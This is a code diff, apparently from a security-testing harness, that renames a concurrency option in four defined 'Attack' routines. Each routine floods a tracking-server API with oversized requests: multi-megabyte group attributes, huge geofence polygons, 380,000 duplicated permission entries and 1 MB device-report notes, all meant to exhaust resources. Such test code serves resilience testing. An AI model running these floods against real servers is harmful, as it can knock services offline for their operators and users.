@@ -19,7 +19,7 @@ export const largeGroups: Attack = {
   async run(scene, signal) {
     const { post, get } = await callerOf(scene)
     const attributes = { text: megabytes(9.5) }
-    await inTurns({ atOnce: 4, most: 55, signal }, (at) =>
+    await inTurns({ atOnce: 4, max: 55, signal }, (at) =>
       post('/api/groups', JSON.stringify({ name: `group ${at}`, attributes })),
     )
     if (!signal.aborted) await get('/api/groups')
@@ -33,7 +33,7 @@ export const largeFences: Attack = {
   async run(scene, signal) {
     const { post, get } = await callerOf(scene)
     const area = `POLYGON ((${'1.00000 1.00000, '.repeat(500_000)}1 1))`
-    await inTurns({ atOnce: 4, most: 60, signal }, (at) =>
+    await inTurns({ atOnce: 4, max: 60, signal }, (at) =>
       post('/api/geofences', JSON.stringify({ name: `fence ${at}`, area })),
     )
     while (!signal.aborted) await get('/api/geofences')
@@ -48,7 +48,7 @@ export const equalLinks: Attack = {
     const { post } = await callerOf(scene)
     const pairs = Array(380_000).fill({ userId: scene.mallory.id, deviceId: scene.victim.id })
     const body = JSON.stringify(pairs)
-    await inTurns({ atOnce: 2, most: 4, signal }, () => post('/api/permissions/bulk', body))
+    await inTurns({ atOnce: 2, max: 4, signal }, () => post('/api/permissions/bulk', body))
   },
 }
 
@@ -61,7 +61,7 @@ export const largeParameters: Attack = {
     const port = scene.devicePorts.osmand
     const long = megabytes(1)
     const headers = { 'content-type': 'application/x-www-form-urlencoded' }
-    await inTurns({ atOnce: 10, most: 700, signal }, (at) => {
+    await inTurns({ atOnce: 10, max: 700, signal }, (at) => {
       const place = `id=${scene.victim.uniqueId}&lat=1&lon=1&timestamp=${1_780_000_000 + at}`
       return request({ port, method: 'POST', path: `/?${place}`, headers, body: `${place}&note=${long}` })
     })
